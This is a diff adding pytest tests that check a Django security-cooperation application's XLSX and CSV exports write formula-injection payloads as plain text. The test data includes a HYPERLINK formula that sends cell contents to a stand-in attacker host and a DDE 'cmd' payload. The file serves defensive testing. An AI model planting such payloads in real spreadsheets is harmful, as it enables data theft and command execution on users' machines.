@@ -1,0 +1,113 @@
+"""Issue 10 hardening: spreadsheet formula injection (item 6), bad input answered with a 400 and a
+message instead of a 500 (item 7), the schema endpoint built once and served to signed-in users
+only (item 10)."""
+
+from __future__ import annotations
+
+import io
+
+import pytest
+from openpyxl import Workbook, load_workbook
+
+from secoop.core.spreadsheets import FORMULA_TRIGGERS, csv_cell, workbook_bytes
+
+pytestmark = pytest.mark.django_db
+
+# --- Item 6: formula injection ---------------------------------------------------------------
+
+PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
+ALL_PAYLOADS = [PAYLOAD, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]
+
+
+def cells_holding(content: bytes, text: str):
+    wb = load_workbook(io.BytesIO(content))
+    found = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == text]
+    assert found, f"{text!r} is not in the export"
+    return found
+
+
+def assert_written_as_text(content: bytes, text: str) -> None:
+    for cell in cells_holding(content, text):
+        assert cell.data_type != "f", f"{cell.coordinate} of {cell.parent.title} is a live formula"
+        assert cell.value == text
+
+
+def test_item6_helper_writes_every_formula_trigger_as_text():
+    wb = Workbook()
+    for payload in ALL_PAYLOADS:
+        wb.active.append([payload, 42, -7])
+    content = workbook_bytes(wb)
+    for payload in ALL_PAYLOADS:
+        assert_written_as_text(content, payload)
+    numbers = [c for row in load_workbook(io.BytesIO(content)).active.iter_rows() for c in row if c.column > 1]
+    assert {c.data_type for c in numbers} == {"n"}  # numbers stay numbers, negatives included
+
+
+def test_item6_csv_cells_are_prefixed_with_a_quote():
+    assert [csv_cell(p) for p in ALL_PAYLOADS] == ["'" + p for p in ALL_PAYLOADS]
+    assert csv_cell("Coastal radar spares") == "Coastal radar spares"
+    assert csv_cell(-5) == -5
+    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}
+
+
+def test_item6_partner_lor_title_reaches_the_sco_lor_export_as_text(api, login):
+    from secoop.core.models import Organization
+
+    mod = Organization.objects.system().get(short_name="Bandaria MoD")
+    r = api("partner.bandaria").post(
+        "/api/v1/cases/lors/",
+        {"title": PAYLOAD, "country": "XBN", "owner_org": mod.pk, "requested_items": "Spares",
+         "estimated_value": "120000.00", "request_type": "pa", "marking": "CUI//REL TO USA, XBN"},
+        format="json",
+    )
+    assert r.status_code == 201, r.content
+    response = login("sco.bandaria").get("/cases/lors/", {"format": "xlsx"})
+    assert response.status_code == 200
+    assert_written_as_text(response.content, PAYLOAD)
+
+
+def test_item6_documents_list_export_writes_a_formula_title_as_text(login):
+    from secoop.core import actions
+    from secoop.core.markings import Marking
+    from secoop.core.models import Document, Organization, User
+
+    sco = User.objects.get(username="sco.bandaria")
+    doc = Document(title="=SUM(1,1)", owner_org=Organization.objects.system().get(short_name="SCO Bandaria"), country_id="XBN")
+    doc.marking = Marking.parse("CUI")
+    actions.create_record(sco, doc)
+    response = login("sco.bandaria").get("/documents/", {"format": "xlsx"})
+    assert response.status_code == 200
+    assert_written_as_text(response.content, "=SUM(1,1)")
+
+
+def test_item6_planning_matrix_xlsx_writes_a_formula_title_as_text(login):
+    from secoop.planning.models import Activity, CountryPlan
+
+    cscs = CountryPlan.objects.system().get(country_id="XBN", version=1)
+    Activity.objects.system().filter(pk=Activity.objects.system().get(title__startswith="Border brigade capability assessment").pk).update(title=PAYLOAD)
+    response = login("ccmd.planner").get(f"/planning/country-plans/{cscs.pk}/export/xlsx/")
+    assert response.status_code == 200
+    assert_written_as_text(response.content, PAYLOAD)
+
+
+def test_item6_case_status_report_writes_a_formula_title_as_text(login):
+    from secoop.cases.models import FmsCase
+
+    FmsCase.objects.system().filter(identifier="XB-B-ZAA").update(title="=2+3")
+    radios = FmsCase.objects.system().get(identifier="XB-B-ZAA")
+    response = login("case.manager").get(f"/cases/{radios.pk}/status.xlsx")
+    assert response.status_code == 200
+    assert_written_as_text(response.content, "=2+3")
+
+
+def test_item6_training_cetpp_xlsx_writes_a_formula_position_as_text():
+    from secoop.core.models import User
+    from secoop.training import demo, reports
+    from secoop.training.models import Cetpp, GraduatePosition, TrainingPlan
+
+    cetpp = Cetpp.objects.system().get(plan=TrainingPlan.objects.system().get(title=demo.PLAN_TITLE), fiscal_year=2027)
+    positions = GraduatePosition.objects.system().filter(student__country_id="XBN", fiscal_year=2027)
+    assert positions.exists()
+    positions.update(position=PAYLOAD)
+    content = reports.cetpp_xlsx(cetpp, User.objects.get(username="sco.bandaria"))
+    assert_written_as_text(content, PAYLOAD)
